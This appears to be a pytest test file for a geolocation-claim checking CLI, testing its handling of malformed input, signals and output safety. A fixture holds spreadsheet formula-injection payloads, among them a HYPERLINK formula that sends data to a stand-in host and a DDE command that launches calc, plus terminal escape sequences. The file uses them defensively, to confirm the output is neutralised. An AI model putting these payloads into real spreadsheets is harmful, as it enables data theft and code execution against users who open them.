"""Issue 13 on the command line: hostile and careless input never crashes, never loses rows,
never fails silently; reports are safe to open; exit codes are 0/1/2/3 and every message names
the file. Each test is a reproduction from the issue (inputs generated here)."""

from __future__ import annotations

import csv
import io
import json
import os
import random
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from geoverify.cli.main import cli
from tests.conftest import EXAMPLE, ROOT

HEADER = "id,clip,frame,lat,lon,claimed"
GOOD = "r1,c1,00:01,50.43005,35.59057,Belgorod oblast"


def run(*args, input=None, env=None):
    return CliRunner().invoke(cli, [str(a) for a in args], input=input, env=env,
                              catch_exceptions=False)


def no_traceback(r):
    assert "Traceback" not in r.output, r.output


@pytest.fixture()
def good(tmp_path):
    p = tmp_path / "good.csv"
    p.write_text(f"{HEADER}\n{GOOD}\n", encoding="utf-8")
    return p


# ---------------------------------------------------------------------------
# crashes, hangs and unbounded resources


def test_check__nested_json_exits_3_naming_the_file(tmp_path):
    p = tmp_path / "nested.json"
    p.write_text("[" * 100_000 + "]" * 100_000)
    r = run("check", p)
    assert r.exit_code == 3
    assert f"claims file {p}: JSON arrays and objects nested more than 100 levels" in r.stderr
    no_traceback(r)


@pytest.mark.parametrize("suffix", ["json", "jsonl"])
def test_check__nested_json_on_stdin_exits_3(suffix):
    text = "[" * 100_000 + "]" * 100_000 if suffix == "json" else \
        '{"lat": 1}\n{"x": ' + "[" * 100_000 + "]" * 100_000 + "}\n"
    r = run("check", "-", input=text)
    assert r.exit_code == 3
    assert "claims file -" in r.stderr and "nested more than 100 levels" in r.stderr
    no_traceback(r)


def test_validate__nested_json_loses_no_other_file(tmp_path, good):
    ragged = tmp_path / "ragged.csv"
    ragged.write_text(f"{HEADER}\n{GOOD}\n{GOOD},extra\n")
    nested = tmp_path / "nested.json"
    nested.write_text("[" * 100_000 + "]" * 100_000)
    r = run("validate", good, ragged, nested, "--format", "json")
    assert r.exit_code == 3
    report = json.loads(r.stdout)
    assert [Path(f["path"]).name for f in report["files"]] == ["good.csv", "ragged.csv"]
    assert any(f["code"] == "ragged-row" for f in report["findings"])
    (err,) = report["errors"]
    assert err["file"].endswith("nested.json") and "nested more than 100" in err["message"]
    assert "nested.json" in r.stderr
    no_traceback(r)


def test_validate__internal_error_in_one_file_keeps_the_others(tmp_path, good, monkeypatch):
    from geoverify.validation import validation

    bad = tmp_path / "bad.csv"
    bad.write_text(f"{HEADER}\n{GOOD}\n")
    real = validation.validate_table

    def broken(raw, *args, **kwargs):
        if raw.path.endswith("bad.csv"):
            raise RecursionError("maximum recursion depth exceeded")
        return real(raw, *args, **kwargs)

    monkeypatch.setattr(validation, "validate_table", broken)
    r = run("validate", good, bad, "--format", "json")
    assert r.exit_code == 3
    report = json.loads(r.stdout)
    assert [Path(f["path"]).name for f in report["files"]] == ["good.csv"]
    (err,) = report["errors"]
    assert "bad.csv" in err["message"] and "internal error" in err["message"]
    assert "RecursionError" in err["message"]
    no_traceback(r)


def test_check__deep_toml_config_exits_3_naming_it(tmp_path, good):
    (tmp_path / ".geoverify.toml").write_text("a = " + "[" * 5000 + "]" * 5000 + "\n")
    for args in (["check", good], ["validate", good]):
        r = run(*args)
        assert r.exit_code == 3
        assert f"configuration {tmp_path / '.geoverify.toml'}: arrays or tables nested too " \
               "deeply" in r.stderr
        assert "internal error" not in r.stderr
        no_traceback(r)


def test_check__dev_zero_exits_3_at_the_size_cap():
    r = run("check", "/dev/zero", env={"GEOVERIFY_MAX_INPUT_BYTES": "1048576"})
    assert r.exit_code == 3
    assert "claims file /dev/zero: larger than 1 MiB" in r.stderr
    no_traceback(r)


def test_check__far_xlsx_cell_exits_3_naming_the_cell(tmp_path):
    import openpyxl

    wb = openpyxl.Workbook()
    wb.active.append(["lat", "lon", "claimed"])
    wb.active.append([50.43005, 35.59057, "Belgorod oblast"])
    wb.active["XFD1048576"] = "x"
    p = tmp_path / "far.xlsx"
    wb.save(p)
    r = run("check", p)
    assert r.exit_code == 3
    assert "reaches cell XFD1048576" in r.stderr
    no_traceback(r)


# ---------------------------------------------------------------------------
# internal errors: the last resort


def test_check__unexpected_exception_is_exit_3_internal_error_naming_the_file(good,
                                                                              monkeypatch):
    import geoverify.run.memory

    def boom(*a, **k):
        raise KeyError("surprise")

    monkeypatch.setattr(geoverify.run.memory, "check_batch", boom)
    r = run("check", good)
    assert r.exit_code == 3
    assert f"geoverify: internal error while reading {good}: KeyError: 'surprise'" in r.stderr
    assert "run with -v for the traceback" in r.stderr
    no_traceback(r)
    r = run("check", good, "-v")
    assert r.exit_code == 3 and "Traceback" in r.stderr


# ---------------------------------------------------------------------------
# data lost or forged: output safety


@pytest.fixture()
def hostile(tmp_path):
    p = tmp_path / "hostile.csv"
    rows = [
        ["r1", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "00:01", "50.43005",
         "-35.59057", "Belgorod oblast"],
        ["r2", "=cmd|' /C calc'!A0", "00:02", "50.43005", "35.59057", "+Belgorod"],
        ["r3", "x\r# ALL FRAMES VERIFIED\r", "00:03", "50.43005", "35.59057", "@SUM(1)"],
        ["r4", "a | b\n| forged | row |", "-00:04", "50.43005", "35.59057", "\x1b[2J\u202etxt"],
    ]
    buf = io.StringIO()
    w = csv.writer(buf)  # CRLF: cells holding CR or LF are quoted
    w.writerow(HEADER.split(","))
    w.writerows(rows)
    p.write_bytes(buf.getvalue().encode("utf-8"))
    return p


def test_check__csv_neutralises_formulas_and_keeps_numbers(hostile):
    r = run("check", hostile, "--format", "csv")
    assert r.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    assert len(rows) == 4
    assert rows[0]["clip"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    assert rows[1]["clip"] == "'=cmd|' /C calc'!A0"
    assert rows[1]["claimed"] == "'+Belgorod"
    assert rows[2]["claimed"] == "'@SUM(1)"
    assert rows[3]["frame"] == "'-00:04"
    assert rows[0]["lon"] == "-35.59057"  # numbers stay numbers
    for row in rows:
        for value in row.values():
            assert value[:1] not in ("=", "+", "@", "\t", "\r")
    raw = list(csv.DictReader(io.StringIO(run("check", hostile, "--format", "csv",
                                              "--raw-text").stdout)))
    assert raw[1]["clip"] == "=cmd|' /C calc'!A0"


def test_check__markdown_cell_cannot_forge_a_heading_or_a_row(hostile):
    r = run("check", hostile, "--format", "markdown")
    assert r.exit_code == 0
    lines = r.stdout.splitlines()
    assert [ln for ln in lines if ln.startswith("#")] == ["# geoverify check", "## Clips",
                                                          "## Frames", "## Boundaries"]
    assert "\r" not in r.stdout
    table = [ln for ln in lines if ln.startswith("|")]
    assert len(table) == 2 + 4  # header, rule, one per frame
    for ln in table:  # every row has the 8 columns: unescaped pipes are the 9 separators
        assert len([i for i, ch in enumerate(ln) if ch == "|" and ln[i - 1:i] != "\\"]) == 9
    clips = lines[lines.index("## Clips") + 2:lines.index("## Frames") - 1]
    assert all(ln.startswith("- ") for ln in clips)


def test_check__table_output_cannot_drive_the_terminal(hostile):
    r = run("check", hostile)
    assert r.exit_code == 0
    assert "\x1b" not in r.stdout and "\u202e" not in r.stdout and "\r" not in r.stdout
    assert len([ln for ln in r.stdout.splitlines() if ln.strip().startswith(("1 ", "2 ", "3 ",
                                                                              "4 "))]) == 4


def test_validate__markdown_and_text_reports_escape_cells(hostile):
    for fmt in ("markdown", "text"):
        r = run("validate", hostile, "--format", fmt, "--fail-on", "never")
        assert r.exit_code == 0
        assert "\x1b" not in r.stdout and "\r" not in r.stdout
        assert not [ln for ln in r.stdout.splitlines() if ln.startswith("# ALL")]


# ---------------------------------------------------------------------------
# outputs: -o an input, missing directory, stale temporary files, SIGTERM


def test_check__output_equal_to_the_input_is_refused(good):
    before = good.read_bytes()
    for args in (["check", good, "-o", good, "--overwrite"],
                 ["map", good, "-o", good, "--overwrite"],
                 ["validate", good, "-o", good, "--overwrite"],
                 ["validate", good, "--write-baseline", good, "--overwrite"]):
        r = run(*args)
        assert r.exit_code == 2, args
        assert "is the input file" in r.stderr
    assert good.read_bytes() == before


def test_check__output_in_a_missing_directory_exits_3_naming_it(good, tmp_path):
    for args in (["check", good, "-o", tmp_path / "nodir" / "x.csv"],
                 ["check", good, "--stream", "-o", tmp_path / "nodir" / "x.parquet"],
                 ["map", good, "-o", tmp_path / "nodir" / "x.html"],
                 ["validate", good, "-o", tmp_path / "nodir" / "x.json"]):
        r = run(*args)
        assert r.exit_code == 3, args
        assert f"the directory {tmp_path / 'nodir'} does not exist" in r.stderr
        no_traceback(r)


def _dead_pid() -> int:
    p = subprocess.Popen([sys.executable, "-c", "pass"])
    p.wait()
    return p.pid


def test_check__stale_temp_files_of_killed_runs_are_removed(good, tmp_path):
    from geoverify.io import tempfiles

    host = tempfiles._host()
    dead = tmp_path / f".out.csv.gvtmp-{host}-{_dead_pid()}-0a1b2c3d"
    dead.write_bytes(b"x" * 1000)
    alive = tmp_path / f".out.csv.gvtmp-{host}-{os.getppid()}-0a1b2c3e"
    alive.write_bytes(b"y")
    old = tmp_path / ".out.csv.gvtmp-ffffff-1-0a1b2c3f"  # another machine's, two days old
    old.write_bytes(b"z")
    os.utime(old, (time.time() - 2 * 86400,) * 2)
    mine = tmp_path / "notes.txt"
    mine.write_text("not ours")
    r = run("check", good, "-o", tmp_path / "out.csv")
    assert r.exit_code == 0, r.output
    assert not dead.exists() and not old.exists()
    assert alive.exists() and mine.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["good.csv", "out.csv", alive.name, "notes.txt"])


SIGTERM_SCRIPT = """
import contextlib, os, signal, sys
import geoverify.io.writers as w

real = w.atomic_output

@contextlib.contextmanager
def killed_before_rename(path, **kw):
    with real(path, **kw) as tmp:
        yield tmp
        assert os.path.getsize(tmp) > 0          # the report is written to the temp file...
        os.kill(os.getpid(), signal.SIGTERM)     # ...and the run is terminated before the rename
        signal.pause()

w.atomic_output = killed_before_rename
from geoverify.cli.main import main
sys.exit(main(sys.argv[1:]))
"""


def test_check__sigterm_during_output_removes_the_temp_file(good, tmp_path):
    out = tmp_path / "out.csv"
    p = subprocess.run([sys.executable, "-c", SIGTERM_SCRIPT, "check", str(good), "-o",
                        str(out)], capture_output=True, text=True, timeout=120, cwd=ROOT)
    assert p.returncode == 128 + signal.SIGTERM, p.stderr
    assert "terminated (SIGTERM)" in p.stderr and "Traceback" not in p.stderr
    assert sorted(x.name for x in tmp_path.iterdir()) == ["good.csv"]


# ---------------------------------------------------------------------------
# silent failures a new user hits in the first hour


def test_check__wrong_column_names_exit_3_with_the_columns_and_the_fix(tmp_path):
    p = tmp_path / "wrong.csv"
    p.write_text("latitude_deg,longitude_deg,region_claimed\n50.43005,35.59057,Belgorod oblast\n")
    r = run("check", p)
    assert r.exit_code == 3
    err = r.stderr
    assert f"claims file {p}: no coordinate columns" in err
    assert "'latitude_deg', 'longitude_deg', 'region_claimed'" in err
    assert "--columns lat=latitude_deg,lon=longitude_deg,claimed=region_claimed" in err
    no_traceback(r)
    r = run("check", p, "--columns", "lat=latitude_deg,lon=longitude_deg,claimed=region_claimed",
            "--format", "json")
    assert r.exit_code == 0, r.output
    report = json.loads(r.stdout)
    assert report["frames"][0]["verdict"] == "match"
    assert report["input"]["columns"]["lat"] == "latitude_deg"


# binary junk from a fixed seed: os.urandom once began with "<" and was read, rightly, as XML
@pytest.mark.parametrize("content", [random.Random(10).randbytes(3000), b"[1, 2, 3]",
                                     b"{\"rows\": [4, 5]}"])
def test_check__no_coordinates_at_all_exits_3(tmp_path, content):
    p = tmp_path / "junk.dat"
    p.write_bytes(content)
    r = run("check", p)
    assert r.exit_code == 3
    assert f"claims file {p}:" in r.stderr and "coordinate" in r.stderr
    no_traceback(r)


def test_check_map_validate__honour_the_configuration_columns(tmp_path, monkeypatch):
    d = tmp_path / "data"
    d.mkdir()
    (d / ".geoverify.toml").write_text(
        'columns = {lat = "latitude_deg", lon = "longitude_deg", claimed = "region"}\n')
    p = d / "c.csv"
    p.write_text("latitude_deg,longitude_deg,region\n50.43005,35.59057,Belgorod oblast\n")
    r = run("check", p, "--format", "json")
    assert r.exit_code == 0, r.output
    assert json.loads(r.stdout)["frames"][0]["verdict"] == "match"
    monkeypatch.chdir(tmp_path)
    r = run("map", p)
    assert r.exit_code == 0, r.output
    assert (tmp_path / "c.html").exists()
    r = run("validate", p, "--format", "json", "--fail-on", "never")
    assert r.exit_code == 0, r.output
    assert not [f for f in json.loads(r.stdout)["findings"] if f["code"] == "missing-coordinates"]
    # --columns wins over the configuration
    p.write_text("lat_x,lon_x,region\n50.43005,35.59057,Belgorod oblast\n")
    r = run("check", p, "--columns", "lat=lat_x,lon=lon_x,claimed=region", "--format", "json")
    assert r.exit_code == 0, r.output


def _two_sheets(path):
    import openpyxl

    wb = openpyxl.Workbook()
    wb.active.title = "Notes"
    wb.active.append(["Exported 2023-05-22 for the monthly report"])
    frames = wb.create_sheet("Frames")
    frames.append(["clip", "lat", "lon", "claimed"])
    frames.append(["c1", 50.43005, 35.59057, "Belgorod oblast"])
    wb.save(path)
    return path


def test_check__xlsx_reads_the_sheet_with_coordinates_and_says_which(tmp_path):
    p = _two_sheets(tmp_path / "two.xlsx")
    r = run("check", p, "--format", "json")
    assert r.exit_code == 0, r.output
    report = json.loads(r.stdout)
    assert report["input"]["sheet"] == "Frames"
    assert report["frames"][0]["verdict"] == "match"
    assert "read sheet 'Frames', the first with coordinate columns" in r.stderr
    r = run("check", p, "--sheet", "Notes")
    assert r.exit_code == 3 and "sheet 'Notes'" in r.stderr and "--sheet" in r.stderr
    for args in (["validate", p, "--sheet", "1", "--fail-on", "never"],
                 ["map", p, "--sheet", "Frames", "-o", tmp_path / "m.html"]):
        assert run(*args).exit_code == 0, args


def test_check__output_extension_picks_the_format(good, tmp_path):
    for name, check in (("out.json", lambda t: json.loads(t)["frames"]),
                        ("out.geojson", lambda t: json.loads(t)["features"]),
                        ("out.csv", lambda t: next(csv.DictReader(io.StringIO(t)))["verdict"]),
                        ("out.md", lambda t: t.startswith("# geoverify check"))):
        r = run("check", good, "-o", tmp_path / name)
        assert r.exit_code == 0, r.output
        assert check((tmp_path / name).read_text(encoding="utf-8"))
    r = run("check", good, "-o", tmp_path / "forced.json", "--format", "csv")
    assert (tmp_path / "forced.json").read_text().startswith("row,")
    r = run("validate", good, "-o", tmp_path / "v.sarif", "--fail-on", "never")
    assert json.loads((tmp_path / "v.sarif").read_text())["version"] == "2.1.0"


@pytest.mark.parametrize("args, words", [
    (["--schema", "cri"], "Did you mean 'cir'?"),
    (["--input-format", "xls"], "old binary Excel workbooks"),
    (["--input-format", "jsn"], "Did you mean 'json'?"),
    (["--format", "jsn"], "Did you mean 'json'?"),
    (["--fail-on", "mismatc"], "Did you mean 'mismatch'?"),
])
def test_check__bad_option_values_exit_2_with_did_you_mean(good, args, words):
    r = run("check", good, *args)
    assert r.exit_code == 2
    assert words in r.stderr


def test_check__option_values_are_case_insensitive(good):
    r = run("check", good, "-f", "JSON", "--fail-on", "Never", "--schema", "NONE",
            "--input-format", "CSV")
    assert r.exit_code == 0, r.output
    assert json.loads(r.stdout)["frames"][0]["row"] == 1
    assert run("validate", good, "-f", "SARIF", "--fail-on", "NEVER").exit_code == 0


def test_validate__write_baseline_message_and_exit_code_agree(tmp_path):
    p = tmp_path / "bad.csv"
    p.write_text(f"{HEADER}\nr1,c1,00:01,50.43005,35.59057,Narnia\n")
    base = tmp_path / "base.json"
    r = run("validate", p, "--write-baseline", base)
    assert r.exit_code == 0
    assert "at or above --fail-on" not in r.output
    assert "finding(s) recorded; they do not fail this run" in r.stderr
    assert run("validate", p, "--baseline", base).exit_code == 0
    assert run("validate", p).exit_code == 1


def test_check__directory_or_glob_with_one_file_is_checked(tmp_path, good):
    assert run("check", tmp_path).exit_code == 0
    assert run("check", str(tmp_path / "*.csv")).exit_code == 0
    (tmp_path / "second.csv").write_text(f"{HEADER}\n{GOOD}\n")
    for target in (tmp_path, str(tmp_path / "*.csv")):
        r = run("check", target)
        assert r.exit_code == 2
        assert "holds 2 claims files" in r.stderr and "geoverify validate" in r.stderr
    r = run("check", str(tmp_path / "*.kml"))
    assert r.exit_code == 3 and "matches no claims file" in r.stderr


def test_map__output_defaults_to_the_input_stem(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    r = run("map", EXAMPLE)
    assert r.exit_code == 0, r.output
    assert (tmp_path / "belgorod-2023.html").exists()
    assert "wrote belgorod-2023.html" in r.stderr
    assert run("map", EXAMPLE).exit_code == 2  # exists: --overwrite needed
    assert run("map", "-", input="lat,lon\n1,2\n").exit_code == 2


def test_boundaries__add_level_and_control_claims_have_help():
    add = run("boundaries", "add", "--help").output
    assert "--level [adm0|adm1]" in add.lower() and "countries" in add and "regions" in add
    control = run("boundaries", "control", "--help").output
    assert "--claims" in control and "frames" in control


def test_check__cir_misspelled_province_stays_unresolved(tmp_path):
    p = tmp_path / "cir.csv"
    p.write_text("id,date,latitude,longitude,country,province,district,town,url\n"
                 "C1,22/05/2023,48.0,37.8,Ukraine,Donestk Oblast,,Bakhmut,https://t.me/x/1\n"
                 "C2,22/05/2023,48.0,37.8,Ukraine,Donetsk,,Bakhmut,https://t.me/x/2\n")
    r = run("check", p, "--format", "json")
    assert r.exit_code == 0, r.output
    report = json.loads(r.stdout)
    f1, f2 = report["frames"]
    assert f1["verdict"] == "unresolved" and f1["claim"] is None
    (unknown,) = [x for x in f1["findings"] if x["code"] == "unknown-claim"]
    assert "Donetsk Oblast (UA-14)" in unknown["message"]
    assert f2["verdict"] == "match" and f2["claim"]["code"] == "UA-14"
    assert report["input"]["schema"] == "cir"
    assert report["input"]["columns"]["lat"] == "latitude"
    assert report["input"]["columns"]["claimed"] == "province, country (cir adapter)"


def test_check__duplicated_lat_column_is_reported(tmp_path):
    p = tmp_path / "dup.csv"
    p.write_text("lat,lon,claimed,lat\n50.43005,35.59057,Belgorod oblast,51.0\n")
    r = run("check", p, "--format", "json")
    assert r.exit_code == 0
    assert "the header has 2 columns named 'lat'" in r.stderr
    (f,) = json.loads(r.stdout)["frames"]
    assert "duplicate-column" in [x["code"] for x in f["findings"]]


def test_options__choices_equal_the_readers_vocabulary():
    """--input-format and --schema list exactly what the readers accept."""
    from geoverify.cli import options
    from geoverify.io import adapters, claims

    assert options.INPUT_FORMATS == claims.FORMATS
    assert options.INPUT_FORMAT_ALIASES == claims.FORMAT_ALIASES
    assert set(options.SCHEMAS) == {*adapters.ADAPTERS, "none"}
    for alias, target in options.SCHEMA_ALIASES.items():
        assert adapters.check_schema_name(alias) == target


SIGTERM_STREAM_SCRIPT = """
import os, signal, sys
import geoverify.run.stream as st

import time

real = st.check_batch

def killed_after_the_first_chunk(*args, **kwargs):
    out = real(*args, **kwargs)
    os.kill(os.getpid(), signal.SIGTERM)  # the main thread stops the run; this block ends
    time.sleep(0.2)
    # a second SIGTERM (another batch's thread, an impatient supervisor) during the clean-up
    # must not kill the process before it has cleaned up and said so
    os.kill(os.getpid(), signal.SIGTERM)
    time.sleep(0.5)
    return out

st.check_batch = killed_after_the_first_chunk
from geoverify.cli.main import main
sys.exit(main(sys.argv[1:]))
"""


def test_check__sigterm_during_stream_removes_the_partial_output(tmp_path):
    src = tmp_path / "big.csv"
    src.write_text(HEADER + "\n" + "\n".join([GOOD] * 50) + "\n")
    p = subprocess.run([sys.executable, "-c", SIGTERM_STREAM_SCRIPT, "check", str(src),
                        "--stream", "--chunk-rows", "10", "-o", str(tmp_path / "x.parquet")],
                       capture_output=True, text=True, timeout=120, cwd=ROOT)
    assert p.returncode == 128 + signal.SIGTERM, p.stderr
    assert "Traceback" not in p.stderr
    assert sorted(x.name for x in tmp_path.iterdir()) == ["big.csv"]


def test_check__bad_columns_value_is_a_usage_error(good):
    for command in ("check", "validate", "map"):
        r = run(command, good, "--columns", "lati=lat")
        assert r.exit_code == 2, command
        assert "unknown role 'lati' (did you mean lat?)" in r.stderr
    r = run("check", good, "--columns", "lat=nothere,lon=lon")
    assert r.exit_code == 3
    assert "names 'nothere', which the file does not have" in r.stderr


def test_check__stream_does_not_ignore_a_configured_column_mapping(tmp_path):
    (tmp_path / ".geoverify.toml").write_text('columns = {lat = "latitude_deg"}\n')
    p = tmp_path / "c.csv"
    p.write_text("latitude_deg,lon\n50.43005,35.59057\n")
    r = run("check", p, "--stream", "-o", tmp_path / "x.csv")
    assert r.exit_code == 0, r.stderr
    import pandas as pd

    out = pd.read_csv(tmp_path / "x.csv", dtype=str, keep_default_na=False)
    assert out.loc[0, "country_code"] == "RU" and out.loc[0, "lat"] == "50.43005"
